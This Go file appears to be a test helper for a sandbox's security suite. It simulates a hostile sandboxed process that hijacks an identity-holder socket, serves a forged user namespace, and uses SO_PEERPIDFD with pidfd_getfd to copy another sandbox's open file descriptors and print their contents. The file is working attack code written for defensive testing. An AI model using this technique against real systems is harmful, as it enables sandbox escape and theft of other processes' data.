// holderspoof plays a sandboxed command that takes the identity holder's
// socket (a writable /tmp) and hands out a user namespace of its own
// making, for TestReview2HolderSpoofedBySandbox.
//
//	holderspoof SOCKET SECONDS [VICTIM-SOCKET]
//
// With VICTIM-SOCKET it also connects there (a socket another sandbox
// listens on) and, from N, copies the listener's descriptors with
// pidfd_getfd(2), printing "STOLEN: " and the content of each regular
// file among them.
//
// It makes a nested user namespace N whose maps are the inverse of its
// sandbox's, so that N, seen from the host, maps each host id of the
// sandbox's range to itself (as the real holder's namespace does), then
// listens on SOCKET from inside N and answers every connection with an fd
// of N. Writing N's uid_map over the sandbox's uid 0 needs CAP_SETFCAP in
// the sandbox's namespace (user_namespaces(7)): --allow-privileged.
package main

import (
	"bufio"
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if n := len(os.Args); n >= 4 && os.Args[n-1] == "inside" {
		if n == 5 {
			go steal(os.Args[3])
		}
		serve(os.Args[1], os.Args[2])
		return
	}
	// The child in N: the maps written by this process (in the sandbox's
	// namespace, with CAP_SETUID/CAP_SETGID/CAP_SETFCAP there).
	attr := &syscall.ProcAttr{
		Files: []uintptr{0, 1, 2},
		Sys: &syscall.SysProcAttr{
			Cloneflags:  syscall.CLONE_NEWUSER,
			UidMappings: inverse("/proc/self/uid_map"),
			GidMappings: inverse("/proc/self/gid_map"),
			// No "deny": CAP_SETGID in the parent namespace writes any map.
			GidMappingsEnableSetgroups: true,
		},
	}
	pid, err := syscall.ForkExec("/proc/self/exe", append(append([]string{}, os.Args...), "inside"), attr)
	if err != nil {
		fmt.Fprintln(os.Stderr, "holderspoof: nested user namespace:", err)
		os.Exit(1)
	}
	var ws syscall.WaitStatus
	syscall.Wait4(pid, &ws, 0, nil)
}

// inverse reads a map of this process's namespace ("inside outside
// count", outside = host ids here) and returns N's: host id -> inside id.
func inverse(file string) []syscall.SysProcIDMap {
	f, err := os.Open(file)
	if err != nil {
		fmt.Fprintln(os.Stderr, "holderspoof:", err)
		os.Exit(1)
	}
	defer f.Close()
	var out []syscall.SysProcIDMap
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		v := strings.Fields(sc.Text())
		if len(v) != 3 {
			continue
		}
		in, _ := strconv.Atoi(v[0])
		host, _ := strconv.Atoi(v[1])
		n, _ := strconv.Atoi(v[2])
		out = append(out, syscall.SysProcIDMap{ContainerID: host, HostID: in, Size: n})
	}
	return out
}

func serve(path, secs string) {
	d, _ := strconv.Atoi(secs)
	ns, err := unix.Open("/proc/self/ns/user", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Fprintln(os.Stderr, "holderspoof:", err)
		os.Exit(1)
	}
	l, err := unix.Socket(unix.AF_UNIX, unix.SOCK_SEQPACKET|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		fmt.Fprintln(os.Stderr, "holderspoof:", err)
		os.Exit(1)
	}
	// The real holder's socket is ours to remove: the same host uid
	// owns it, and the sandbox's CAP_FOWNER covers it anyway.
	unix.Unlink(path)
	unix.Umask(0)
	if err := unix.Bind(l, &unix.SockaddrUnix{Name: path}); err != nil {
		fmt.Fprintln(os.Stderr, "holderspoof: bind:", err)
		os.Exit(1)
	}
	unix.Listen(l, 64)
	fmt.Println("listening")
	tv := unix.Timeval{Sec: 1}
	unix.SetsockoptTimeval(l, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	end := time.Now().Add(time.Duration(d) * time.Second)
	for time.Now().Before(end) {
		a, _, err := unix.Accept4(l, unix.SOCK_CLOEXEC)
		if err != nil {
			continue
		}
		unix.Sendmsg(a, []byte{'n'}, unix.UnixRights(ns), nil, unix.MSG_NOSIGNAL)
		unix.Close(a)
	}
	unix.Unlink(path)
}

// steal connects to the victim's listener until it answers, takes a pidfd
// of the listener's process (SO_PEERPIDFD) and copies its descriptors.
func steal(victim string) {
	for i := 0; i < 600; i++ {
		s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return
		}
		if err := unix.Connect(s, &unix.SockaddrUnix{Name: victim}); err != nil {
			unix.Close(s)
			time.Sleep(50 * time.Millisecond)
			continue
		}
		defer unix.Close(s)
		pidfd, err := unix.GetsockoptInt(s, unix.SOL_SOCKET, unix.SO_PEERPIDFD)
		if err != nil {
			fmt.Println("SO_PEERPIDFD:", err)
			return
		}
		for n := 0; n < 32; n++ {
			fd, err := unix.PidfdGetfd(pidfd, n, 0)
			if err != nil {
				if err != unix.EBADF {
					fmt.Printf("pidfd_getfd %d: %v\n", n, err)
				}
				continue
			}
			var st unix.Stat_t
			if unix.Fstat(fd, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFREG {
				b := make([]byte, 128)
				k, _ := unix.Pread(fd, b, 0)
				fmt.Printf("STOLEN: %s\n", strings.TrimSpace(string(b[:k])))
			}
			unix.Close(fd)
		}
		return
	}
}
